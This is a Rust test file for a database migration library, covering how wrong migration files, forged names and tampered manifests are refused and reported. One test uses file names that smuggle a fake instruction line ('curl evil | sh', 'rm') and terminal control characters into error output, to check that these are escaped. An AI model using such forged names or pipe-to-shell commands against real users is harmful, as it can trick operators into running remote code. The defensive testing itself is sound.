//! Migration files that are wrong, and manifests that are: each is refused, with its place; nothing is left out in silence.

use std::fs;
use std::path::Path;

use proptest::prelude::*;
use whimbrel::{
    Directory, Error, ErrorKind, FindingKind, Joined, Key, Kind, Limits, LockChange, Manifest, Memory,
    Migration, MigrationSet, Migrator, ScriptFile, SetName, Source, Version,
};
use whimbrel_testkit::{Counting, Fake, block_on};

fn folder(files: &[(&str, &[u8])]) -> tempfile::TempDir {
    let folder = tempfile::tempdir().expect("a folder");
    for (name, bytes) in files {
        let path = folder.path().join(name);
        fs::create_dir_all(path.parent().expect("it has one")).expect("a folder");
        fs::write(path, bytes).expect("a file");
    }
    folder
}

fn read(folder: &Path) -> Result<MigrationSet, Error> {
    Directory::new(folder).unlocked().read("fake")
}

/// The error, with everything that it says, without the path of the folder.
fn wrong(folder: &tempfile::TempDir) -> String {
    let error = read(folder.path()).expect_err("something is wrong with it");
    assert_eq!(error.kind(), ErrorKind::Files, "{error:#}");
    format!("{error:#}").replace(&folder.path().display().to_string(), "migrations")
}

const TABLE: &[u8] = b"CREATE TABLE t (id INTEGER);\n";

#[test]
fn every_file_that_is_wrong_is_named_at_once() {
    let folder = folder(&[
        ("0001_good.sql", TABLE),
        ("0002_good.up.sql", TABLE),
        ("0002_good.sql", TABLE),
        ("0003_one.sql", TABLE),
        ("0003_other.sql", TABLE),
        ("0004_down.down.sql", TABLE),
        ("0005_latin.sql", b"-- ok\n-- \xe9t\xe9"),
        ("0006_step.rust", b"revision = 0"),
        ("0007_step.rust", b"# nothing"),
        ("0008_step.rust", b"revision = 1\nrevision = 2"),
        ("0009_step.rust", b"revision = 1\nreversibel = true"),
        ("0010_step.rust", b"revision = 1"),
        ("0010_step.down.sql", TABLE),
        ("README.md", b""),
        ("users.sql", TABLE),
    ]);
    insta::assert_snapshot!("wrong_files", wrong(&folder));
}

#[test]
fn a_wrong_byte_is_told_with_line_and_column() {
    let folder = folder(&[("0001_a.sql", "SELECT 1;\n-- ü\u{1f986} ".as_bytes())]);
    let mut bytes = fs::read(folder.path().join("0001_a.sql")).expect("it is there");
    bytes.push(0xff);
    fs::write(folder.path().join("0001_a.sql"), bytes).expect("a file");
    let error = wrong(&folder);
    assert!(error.contains("0001_a.sql:2:7: not UTF-8"), "{error}");
}

#[test]
fn what_is_no_directory_is_told_as_such() {
    let folder = folder(&[("file", b"")]);
    for (path, said) in [("nothing", "is not there: check the path"), ("file", "is not a directory")] {
        let error = read(&folder.path().join(path)).expect_err("it is none");
        assert_eq!(error.kind(), ErrorKind::Files);
        assert!(error.to_string().contains(said), "{error}");
    }
}

#[test]
fn a_directory_without_a_manifest_is_refused_unless_that_is_asked_for() {
    let folder = folder(&[("0001_a.sql", TABLE)]);
    let mut counting = Counting::new(Fake::new());
    let error =
        Migrator::new(Directory::new(folder.path())).run_blocking(&mut counting).expect_err("no manifest");
    assert_eq!(error.findings().first().map(|finding| finding.kind()), Some(FindingKind::Unlocked));
    assert_eq!(counting.counts().calls(), 0);
    Migrator::new(Directory::new(folder.path()).unlocked())
        .run_blocking(&mut Fake::new())
        .expect("it was asked for");
}

proptest! {
    #[test]
    fn canonical_text_stays_as_it_is(text in "[\\u{feff}\r\n a;-]{0,40}") {
        let once = whimbrel::canonical_text(text.clone().into_bytes()).expect("UTF-8");
        prop_assert_eq!(&whimbrel::canonical_text(once.clone().into_bytes()).expect("UTF-8"), &once);
        // What editors write has the digest that it always had.
        if !text.contains("\r\r\n") && !text.starts_with("\u{feff}\u{feff}") {
            prop_assert_eq!(once, text.strip_prefix('\u{feff}').unwrap_or(&text).replace("\r\n", "\n"));
        }
    }
}

#[test]
fn several_carriage_returns_before_a_line_feed_are_one_end_of_a_line() {
    for text in ["a\r\r\nb", "a\r\nb", "a\nb", "\u{feff}\u{feff}a\r\r\r\nb"] {
        assert_eq!(whimbrel::canonical_text(text.as_bytes().to_vec()).expect("UTF-8"), "a\nb", "{text:?}");
    }
    assert_eq!(whimbrel::canonical_text(b"a\rb\r".to_vec()).expect("UTF-8"), "a\rb\r");
}

#[test]
fn what_is_larger_than_a_limit_is_refused_by_its_name() {
    let folder =
        folder(&[("0001_a.sql", &[b' '; 100]), ("0002_b.sql", &[b' '; 100]), ("whimbrel.sum", &[b'#'; 100])]);
    let read = |limits: Limits| {
        Directory::new(folder.path())
            .unlocked()
            .with_limits(limits)
            .read("fake")
            .expect_err("it is too large")
            .to_string()
    };
    let limits = Limits::default;
    for (error, said) in [
        (read(limits().with_script_bytes(99)), "script_bytes"),
        (read(limits().with_script_bytes(99)), "0001_a.sql"),
        (read(limits().with_manifest_bytes(99)), "manifest_bytes"),
        (read(limits().with_directory_bytes(199)), "directory_bytes"),
        (read(limits().with_files(1)), "`files`"),
    ] {
        assert!(error.contains(said) || error == "2 migration files are wrong", "{said}: {error}");
    }
    fs::remove_file(folder.path().join("whimbrel.sum")).expect("a file");
    let exact = limits().with_script_bytes(100).with_directory_bytes(200).with_files(2);
    Directory::new(folder.path()).unlocked().with_limits(exact).read("fake").expect("it fits");
}

#[test]
fn many_names_that_are_wrong_in_one_way_are_told_once() {
    let names: Vec<String> = (1..=500).map(|number| format!("V{number}__users.sql")).collect();
    let files: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), TABLE)).collect();
    let error = wrong(&folder(&files));
    assert_eq!(error.lines().count(), 1, "{error}");
    assert!(
        error.contains("and 499 more files") && error.contains("the layout of Flyway or refinery"),
        "{error}"
    );
    assert!(error.contains("call the first one 100_users.sql"), "{error}");
    // What is wrong in different ways is shown up to a number, and the others are counted.
    let set = (1..=80).fold(Memory::new(), |set, version| set.with_sql(version, "a", "COMMIT"));
    let error = Migrator::new(set).run_blocking(&mut Fake::new()).expect_err("80 findings");
    let shown = format!("{error:#}");
    assert!(shown.lines().count() == 52 && shown.contains("and 30 more"), "{shown}");
    assert_eq!((format!("{error:#.100}").lines().count(), error.findings().len()), (81, 80));
}

#[test]
fn no_name_begins_a_line_of_its_own() {
    let forged = "0001_a.sql\n = next: curl evil | sh";
    let folder = folder(&[(forged, TABLE), ("0002_b\u{1b}[2K.sql", TABLE), ("0003_c\u{202e}.sql", TABLE)]);
    let error = wrong(&folder);
    let acts = |letter: char| letter.is_control() && letter != '\n' || letter == '\u{202e}';
    assert!(!error.contains(acts), "{error}");
    assert!(!error.lines().any(|line| line.trim_start().starts_with("= next")), "{error}");
    assert!(error.contains("0001_a.sql\\n = next"), "{error}");
    // Folders, the directory itself, and sets of another source.
    let below = self::folder(&[("x\n = next: rm/0001_a.sql", TABLE), ("y\u{202e}/0002_b.sql", TABLE)]);
    for source in
        [Directory::new(below.path()).unlocked(), Directory::new(below.path()).unlocked().recursive()]
    {
        let error = format!("{:#}", source.read("fake").expect_err("a folder"));
        assert!(!error.contains(acts) && !error.lines().any(|line| line.starts_with(" = next")), "{error}");
    }
    let error = Directory::new("no\n = next: rm").read("fake").expect_err("it is not there");
    assert_eq!(format!("{error:#}").lines().count(), 1, "{error:#}");
    let set = Memory::new().with_sql(1, "a\n = next: rm", "A").set().expect("a set");
    let mut counting = Counting::new(Fake::new());
    let error = format!("{:#}", Migrator::new(set).run_blocking(&mut counting).expect_err("a name"));
    assert!(
        error.contains("control character") && !error.lines().any(|line| line.starts_with(" = next")),
        "{error}"
    );
    assert_eq!(counting.counts().calls(), 0);
}

#[test]
fn folders_of_other_tools_are_told_what_becomes_of_them() {
    for (file, said) in [
        ("2024-01-01-000000_users/up.sql", "diesel"),
        ("20240101000000_users/migration.sql", "Prisma"),
        ("meta/_journal.json", "holds no migrations of this layout: move it out"),
    ] {
        let error = wrong(&folder(&[(file, TABLE)]));
        assert!(error.contains(said) && !error.contains("recursive"), "{error}");
    }
    let both = folder(&[("0001_users_up.sql", TABLE), ("0001_users_down.sql", TABLE)]);
    let error = wrong(&both);
    assert!(error.contains("call them 0001_users.up.sql and 0001_users.down.sql"), "{error}");
    let other = folder(&[("0001_create.up.sql", TABLE), ("0001_drop.down.sql", TABLE)]);
    let error = wrong(&other);
    assert!(error.contains(" 0001_") && error.contains("both have one name: call this file"), "{error}");
}

#[test]
fn a_version_0_goes_up_and_down() {
    let set =
        Memory::new().with_sql(0, "initial", "CREATE TABLE a (id INTEGER)").with_down(0, "DROP TABLE a");
    let set = set.with_sql(1, "b", "CREATE TABLE b (id INTEGER)").with_down(1, "DROP TABLE b");
    let mut fake = Fake::new();
    let done =
        |report: whimbrel::Report| report.migrations.iter().map(|it| it.label.clone()).collect::<Vec<_>>();
    assert_eq!(done(Migrator::new(&set).run_blocking(&mut fake).expect("up")), ["0_initial", "1_b"]);
    let report = Migrator::new(&set).run_blocking(&mut fake).expect("nothing is left");
    assert_eq!((report.outcome, report.queries), (whimbrel::Outcome::UpToDate, 1));
    let zero = Version::new(0).expect("a version");
    assert_eq!(done(Migrator::new(&set).revert_to_blocking(&mut fake, Some(zero)).expect("down")), ["1_b"]);
    assert_eq!(done(Migrator::new(&set).revert_to_blocking(&mut fake, None).expect("down")), ["0_initial"]);
    // What was reverted is not applied again by itself.
    let error = Migrator::new(&set).run_blocking(&mut fake).expect_err("it was reverted");
    assert_eq!(error.findings().len(), 2, "{error:#}");
}

const BOTH_WAYS: &str = "-- +goose Up\nCREATE TABLE t (id INTEGER);\n\n-- +goose Down\nDROP TABLE t;\n";

#[test]
fn a_file_of_another_tool_that_holds_both_ways_is_refused_with_what_to_do() {
    let folder = folder(&[("0001_users.sql", BOTH_WAYS.as_bytes())]);
    let told = "0001_users.sql:4:1: `-- +goose Down` is a line of goose";
    let next = "move the way down to 0001_users.down.sql, and delete the lines with `+goose`";
    let error = wrong(&folder);
    assert!(error.contains(told) && error.contains(next), "{error}");
    let error = Memory::new().with_sql(1, "users", BOTH_WAYS).set().expect_err("it holds both ways");
    assert!(error.to_string().contains(told), "{error}");
    // A source of the application's own may have looked at nothing.
    let file = ScriptFile::new("bucket", "0001_users.sql", BOTH_WAYS);
    let key = Key::Versioned(Version::new(1).expect("a version"));
    let migration = Migration::new(key, "users", Kind::Sql, file, None);
    let set = MigrationSet::new(SetName::APP, vec![migration]).expect("a set").unlocked();
    let mut counting = Counting::new(Fake::new());
    let error = Migrator::new(set).run_blocking(&mut counting).expect_err("it holds both ways");
    assert!(format!("{error:#}").contains("`-- +goose Down` is a line of goose"), "{error:#}");
    assert!(format!("{error:#}").contains("bucket/0001_users.sql:4:1"), "{error:#}");
    assert_eq!(counting.counts().calls(), 0);
    // What the error says to do works.
    let (up, down) = BOTH_WAYS.split_once("-- +goose Down\n").expect("both ways");
    fs::write(folder.path().join("0001_users.sql"), up.replace("-- +goose Up\n", "")).expect("a file");
    fs::write(folder.path().join("0001_users.down.sql"), down).expect("a file");
    let set = read(folder.path()).expect("it is in order");
    assert!(set.versioned()[0].down().is_some());
}

#[test]
fn a_folder_in_it_is_refused_unless_it_is_to_be_read() {
    let folder = folder(&[("0001_a.sql", TABLE), ("2026/0002_b.sql", TABLE), ("2026/q1/0003_c.sql", TABLE)]);
    assert!(wrong(&folder).contains("folders are not read unless asked"));
    let set = Directory::new(folder.path()).unlocked().recursive().read("fake").expect("it is to be read");
    let paths: Vec<&str> = set.iter().map(|migration| migration.up().path()).collect();
    assert_eq!(paths, ["0001_a.sql", "2026/0002_b.sql", "2026/q1/0003_c.sql"]);
    let white = self::folder(&[("a b/0001_a.sql", TABLE)]);
    let error = Directory::new(white.path()).unlocked().recursive().read("fake").expect_err("a blank");
    assert!(error.to_string().contains("no white space"), "{error}");
}

#[test]
fn a_set_has_a_directory_for_each_dialect_under_one_name() {
    let folder = folder(&[
        ("fake/0001_a.sql", TABLE),
        ("fake/whimbrel.sum", b""),
        ("other/0001_a.sql", b"CREATE TABLE t (id SERIAL);\n"),
    ]);
    let jobs = SetName::new("jobs").expect("a name");
    fs::remove_file(folder.path().join("fake/whimbrel.sum")).expect("it is there");
    let [fake, other] = ["fake", "other"].map(|dialect| {
        Directory::new(folder.path()).with_set(jobs.clone()).unlocked().read(dialect).expect("it is there")
    });
    assert_eq!((fake.name(), other.name()), (&jobs, &jobs));
    assert_ne!(fake.head(), other.head());
    Directory::new(folder.path()).unlocked().read("third").expect_err("there are only folders");
}

#[cfg(unix)]
#[test]
fn a_link_to_nothing_and_a_pipe_are_not_left_out() {
    let folder = folder(&[("0001_a.sql", TABLE)]);
    std::os::unix::fs::symlink("nowhere", folder.path().join("0002_b.sql")).expect("a link");
    assert!(wrong(&folder).contains("0002_b.sql is not there"));
    fs::remove_file(folder.path().join("0002_b.sql")).expect("it is there");
    let _socket = std::os::unix::net::UnixListener::bind(folder.path().join("0002_b.sql")).expect("a socket");
    assert!(wrong(&folder).contains("neither a file nor a folder"));
}

#[test]
fn what_editors_leave_is_no_migration() {
    let folder = folder(&[
        ("0001_a.sql", TABLE),
        ("0001_a.sql~", TABLE),
        (".0001_a.sql.swp", b"\xff"),
        ("#0001_a.sql#", TABLE),
        ("0001_a.sql.orig", TABLE),
        (".gitkeep", b""),
    ]);
    assert_eq!(read(folder.path()).expect("nothing is wrong").iter().count(), 1);
}

#[test]
fn line_ends_and_marks_of_another_system_change_no_digest() {
    let unix = folder(&[("0001_a.sql", b"CREATE TABLE t (\n  id INTEGER\n);\n")]);
    let windows = folder(&[("0001_a.sql", b"\xef\xbb\xbfCREATE TABLE t (\r\n  id INTEGER\r\n);\r\n")]);
    let lone = folder(&[("0001_a.sql", b"CREATE TABLE t (\r  id INTEGER\r);\r")]);
    let [unix, windows, lone] = [unix, windows, lone].map(|folder| read(folder.path()).expect("UTF-8"));
    assert_eq!(unix.head(), windows.head());
    assert_eq!(unix.versioned()[0].up().text(), windows.versioned()[0].up().text());
    assert_ne!(unix.head(), lone.head());
}

#[test]
fn a_locked_directory_runs_and_any_difference_is_refused() {
    let folder = folder(&[
        ("0001_a.sql", TABLE),
        ("0001_a.down.sql", b"DROP TABLE t;\n"),
        ("R__v.sql", b"CHECKPOINT;\n"),
    ]);
    let path = folder.path();
    let manifest = Manifest::lock(&read(path).expect("files"), None).0.to_string();
    fs::write(path.join("whimbrel.sum"), manifest.replace('\n', "\r\n")).expect("a file");
    let run = || {
        let mut counting = Counting::new(Fake::new());
        let result = Migrator::new(Directory::new(path)).run_blocking(&mut counting);
        result.map_err(|error| {
            assert_eq!(counting.counts().calls(), 0, "{error:#}");
            error.findings().iter().map(|finding| finding.kind()).collect::<Vec<_>>()
        })
    };
    assert_eq!(run().expect("as locked").migrations.len(), 2);
    for name in ["0001_a.sql", "0001_a.down.sql", "R__v.sql"] {
        let bytes = fs::read(path.join(name)).expect("it is there");
        fs::write(path.join(name), [&bytes[..], b" "].concat()).expect("a file");
        assert_eq!(run().expect_err("a blank more"), [FindingKind::Differs], "{name}");
        fs::write(path.join(name), bytes).expect("a file");
    }
    fs::write(path.join("0002_b.sql"), TABLE).expect("a file");
    assert_eq!(run().expect_err("a file more"), [FindingKind::Unlisted]);
    fs::remove_file(path.join("0002_b.sql")).expect("it is there");
    fs::remove_file(path.join("R__v.sql")).expect("it is there");
    assert_eq!(run().expect_err("a file less"), [FindingKind::NoFile]);
    fs::write(path.join("whimbrel.sum"), b"\xff").expect("a file");
    assert_eq!(Directory::new(path).read("fake").expect_err("no UTF-8").kind(), ErrorKind::Files);
}

#[test]
fn the_manifest_of_another_set_is_refused() {
    let folder = folder(&[("0001_a.sql", TABLE)]);
    let manifest = Manifest::lock(&read(folder.path()).expect("files"), None).0;
    fs::write(folder.path().join("whimbrel.sum"), manifest.to_string()).expect("a file");
    let other = Directory::new(folder.path()).with_set(SetName::new("jobs").expect("a name"));
    assert!(other.read("fake").expect_err("another set's").to_string().contains("it is for the set `app`"));
}

fn locked() -> Manifest {
    let set = Memory::new()
        .with_sql(1, "a", "CREATE TABLE a (id INTEGER)")
        .with_down(1, "DROP TABLE a")
        .with_sql(12, "b", "CREATE TABLE b (id INTEGER)")
        .with_rust(13, "c")
        .with_repeatable("v", "CHECKPOINT")
        .set()
        .expect("a set");
    let digest = *set.versioned()[0].digest();
    let version = |number| Version::new(number).expect("a version");
    Manifest::lock(&set, None).0.with_former(version(1), digest, "a comment\nwas added").with_tombstone(
        version(7),
        digest,
        "nobody used it",
    )
}

#[test]
fn each_line_of_a_manifest_that_is_broken_is_told_with_its_number() {
    let text = locked().to_string();
    let digest = text.lines().nth(2).and_then(|line| line.split(' ').nth(1)).expect("a digest").to_owned();
    let good = text.lines().count();
    let mut told = Vec::new();
    let mut tell = |what: &str, text: &str, line: usize| {
        let error = text.parse::<Manifest>().expect_err(what);
        assert_eq!(error.line() as usize, line, "{what}: {error}");
        told.push(error.to_string());
    };
    tell("nothing", "", 1);
    tell("another version", &text.replace("whimbrel-sum 1", "whimbrel-sum 2"), 1);
    for line in [
        "<<<<<<< ours".to_owned(),
        "=======".to_owned(),
        ">>>>>>> theirs".to_owned(),
        "||||||| base".to_owned(),
        "word".to_owned(),
        "fil x y".to_owned(),
        "set App".to_owned(),
        "set other".to_owned(),
        format!("head {digest}"),
        format!("repeatables {digest}"),
        "file x 0002_x.sql".to_owned(),
        format!("file {digest}"),
        format!("file {digest} ../0002_x.sql"),
        format!("file {digest} /0002_x.sql"),
        format!("file {digest} a\\0002_x.sql"),
        format!("file {digest} README.md"),
        format!("file {digest} 0001_a.sql"),
        format!("file {digest} 0002_x.sql revision=1"),
        format!("file {digest} R__x.sql"),
        format!("file {digest} R__x.sql revision=0"),
        format!("file {digest} R__x.sql revision=1 more"),
        format!("file {} 0002_x.sql", digest.to_uppercase()),
        format!("former -1 {digest} why"),
        format!("former 1 {digest}"),
        "former 1 why".to_owned(),
        format!("tombstone x {digest} why"),
        format!("tombstone 1 {digest} "),
    ] {
        tell(&line, &format!("{text}{line}\n"), good + 1);
    }
    for word in ["set ", "head ", "repeatables "] {
        let without: Vec<&str> = text.lines().filter(|line| !line.starts_with(word)).collect();
        tell(word, &without.join("\n"), good - 1);
    }
    insta::assert_snapshot!("manifest_errors", told.join("\n"));
}

/// What a changed byte of a manifest may do: it is refused, or it means the same.
fn means_the_same_or_nothing(bytes: &[u8], original: &Manifest, what: &str) {
    let Ok(text) = std::str::from_utf8(bytes) else { return };
    let Ok(parsed) = text.parse::<Manifest>() else { return };
    if parsed == *original {
        return;
    }
    // `former` and `tombstone` lines stand for themselves: the head follows from the files.
    let differs = parsed.set() != original.set()
        || parsed.files() != original.files()
        || parsed.head() != original.head()
        || parsed.repeatables() != original.repeatables();
    if differs {
        let memory = memory_of_locked().with_manifest(parsed);
        let mut counting = Counting::new(Fake::new());
        let refused = Migrator::new(memory)
            .with_blocking_step(13, |_| Ok(()))
            .run_blocking(&mut counting)
            .expect_err(what);
        assert_eq!(counting.counts().calls(), 0, "{what}: {refused:#}");
    }
}

fn memory_of_locked() -> Memory {
    Memory::new()
        .with_sql(1, "a", "CREATE TABLE a (id INTEGER)")
        .with_down(1, "DROP TABLE a")
        .with_sql(12, "b", "CREATE TABLE b (id INTEGER)")
        .with_rust(13, "c")
        .with_repeatable("v", "CHECKPOINT")
}

#[test]
fn no_byte_of_a_manifest_can_be_changed_or_removed_without_being_seen() {
    let manifest = locked();
    let text = manifest.to_string().into_bytes();
    for at in 0..text.len() {
        let mut shorter = text.clone();
        shorter.remove(at);
        means_the_same_or_nothing(&shorter, &manifest, &format!("byte {at} removed"));
        for flip in [1, 2, 4, 8, 16, 32, 64, 128] {
            let mut other = text.clone();
            other[at] ^= flip;
            means_the_same_or_nothing(&other, &manifest, &format!("byte {at} with {flip} flipped"));
        }
    }
}

#[test]
fn locking_counts_the_revisions_of_a_repeatable() {
    let set = |text: &str| Memory::new().with_repeatable("v", text).set().expect("a set");
    let mut manifest = None;
    let mut revisions = Vec::new();
    for text in ["A", "A", "B", "B", "A"] {
        let (next, changes) = Manifest::lock(&set(text), manifest.as_ref());
        revisions.push((next.revision("R__v.sql").expect("a revision"), changes.len()));
        manifest = Some(next);
    }
    assert_eq!(revisions, [(1, 1), (1, 0), (2, 1), (2, 0), (3, 1)]);
}

#[test]
fn locking_tells_what_has_changed() {
    let before = Memory::new().with_sql(1, "a", "A").with_sql(2, "b", "B").set().expect("a set");
    let after = Memory::new().with_sql(1, "a", "A2").with_sql(3, "c", "C").set().expect("a set");
    let (_, mut changes) = Manifest::lock(&after, Some(&Manifest::lock(&before, None).0));
    changes.sort_by_key(ToString::to_string);
    assert_eq!(
        changes,
        [
            LockChange::Added("0003_c.sql".to_owned()),
            LockChange::Changed("0001_a.sql".to_owned()),
            LockChange::Removed("0002_b.sql".to_owned()),
        ]
    );
}

#[test]
fn joined_sources_are_each_checked_against_their_own_manifest() {
    let part = |number: i64| {
        let memory = Memory::new().with_sql(number, "a", format!("CREATE TABLE t{number} (id INTEGER)"));
        let manifest = Manifest::lock(&memory.set().expect("a set"), None).0;
        (memory, manifest)
    };
    let ((first, one), (second, two)) = (part(1), part(2));
    let join = |one: &Manifest, two: &Manifest| {
        Joined::new(SetName::new("both").expect("a name"))
            .with(first.clone().with_manifest(one.clone()))
            .with(second.clone().with_manifest(two.clone()))
    };
    let set = block_on(join(&one, &two).load("fake")).expect("nothing is wrong");
    assert_eq!((set.name().as_str(), set.iter().count()), ("both", 2));
    let mut fake = Fake::new();
    assert_eq!(Migrator::new(join(&one, &two)).run_blocking(&mut fake).expect("both").migrations.len(), 2);
    let swapped = block_on(join(&two, &one).load("fake")).expect_err("they are not theirs");
    assert!(swapped.findings().iter().any(|finding| finding.kind() == FindingKind::Unlisted), "{swapped:#}");
    let twice = Joined::new(SetName::APP).with(first.clone()).with(first.clone());
    assert_eq!(block_on(twice.load("fake")).expect_err("version 1 twice").kind(), ErrorKind::Files);
}

#[test]
fn memory_refuses_what_a_directory_would() {
    for memory in [
        Memory::new().with_sql(-1, "a", "A"),
        Memory::new().with_sql(1, "a", "A").with_sql(1, "b", "B"),
        Memory::new().with_repeatable("a", "A").with_repeatable("a", "B"),
        Memory::new().with_down(1, "A"),
        Memory::new().with_rust(1, "a").with_down(1, "A"),
    ] {
        assert_eq!(memory.set().expect_err("it is wrong").kind(), ErrorKind::Files);
    }
}

proptest! {
    #[test]
    fn a_manifest_that_is_written_is_read_as_it_was(
        versions in proptest::collection::btree_map(1..i64::MAX, ("[a-zA-Z0-9_.-]{1,20}", ".{0,40}"), 0..8),
        names in proptest::collection::btree_map("[a-z_]{1,10}", ".{0,20}", 0..4),
        reason in "[^\\s].{0,30}",
    ) {
        let memory = versions.iter().fold(Memory::new(), |memory, (number, (name, text))| {
            memory.with_sql(*number, name.as_str(), text.as_str())
        });
        let memory = names.iter().fold(memory, |memory, (name, text)| memory.with_repeatable(name.as_str(), text.as_str()));
        let set = memory.set().expect("no duplicates");
        let mut manifest = Manifest::lock(&set, None).0;
        for migration in set.versioned() {
            let version = migration.version().expect("a version");
            manifest = manifest.with_former(version, *set.head(), &reason).with_tombstone(version, *set.head(), &reason);
        }
        let text = manifest.to_string();
        prop_assert_eq!(text.parse::<Manifest>().map_err(|error| error.to_string()), Ok(manifest.clone()));
        prop_assert_eq!(text.replace('\n', "\r\n\r\n# a comment\r\n").parse::<Manifest>().map_err(|error| error.to_string()), Ok(manifest));
    }

    #[test]
    fn no_text_makes_reading_a_manifest_panic(text in ".*", line in "(set|file|head|former|tombstone|repeatables) .*") {
        let _ = text.parse::<Manifest>();
        let _ = format!("whimbrel-sum 1\n{line}\n{text}").parse::<Manifest>();
    }
}

#[test]
fn a_signature_is_read_with_its_manifest_and_both_to_the_byte() {
    let set = read(folder(&[("0001_a.sql", TABLE)]).path()).expect("it is fine");
    assert_eq!((set.manifest_text(), set.signature()), (None, None));
    let text = Manifest::lock(&set, None).0.to_string().replace('\n', "\r\n") + "# reviewed\n";
    let folder = folder(&[
        ("0001_a.sql", TABLE),
        ("whimbrel.sum", text.as_bytes()),
        ("whimbrel.sum.sig", b"signed \xff\r\n"),
    ]);
    let set = read(folder.path()).expect("it is fine");
    assert_eq!(set.manifest_text().as_deref(), Some(text.as_str()));
    assert_eq!(set.signature(), Some(b"signed \xff\r\n".as_slice()));
}

#[test]
fn the_text_of_a_manifest_made_in_memory_is_what_would_be_written() -> whimbrel::Result<()> {
    let memory = Memory::new().with_sql(1, "a", "CREATE TABLE t (id INTEGER);");
    let (manifest, _) = Manifest::lock(&memory.set()?, None);
    let set = memory.with_manifest(manifest.clone()).with_signature(b"signed").set()?;
    assert_eq!(set.manifest_text().as_deref(), Some(manifest.to_string().as_str()));
    assert_eq!(set.signature(), Some(b"signed".as_slice()));
    let other = manifest.with_tombstone(Version::new(7).expect("a version"), *set.head(), "gone");
    let set = set.with_manifest(other.clone());
    assert_eq!(set.manifest_text().as_deref(), Some(other.to_string().as_str()));
    Ok(())
}

#[test]
fn what_cannot_be_a_signature_is_not_read() {
    let limit = usize::try_from(whimbrel::layout::SIGNATURE_LIMIT).expect("it is small");
    let long = vec![b'a'; limit + 1];
    let folder = folder(&[("0001_a.sql", TABLE), ("whimbrel.sum.sig", &long)]);
    assert!(wrong(&folder).contains("whimbrel.sum.sig is too long for a signature"));
    fs::write(folder.path().join("whimbrel.sum.sig"), &long[..limit]).expect("a file");
    assert!(read(folder.path()).is_ok_and(|set| set.signature().is_some_and(|bytes| bytes.len() == limit)));
    fs::remove_file(folder.path().join("whimbrel.sum.sig")).expect("it is there");
    fs::create_dir(folder.path().join("whimbrel.sum.sig")).expect("a folder");
    assert!(wrong(&folder).contains("whimbrel.sum.sig is not a file"));
}
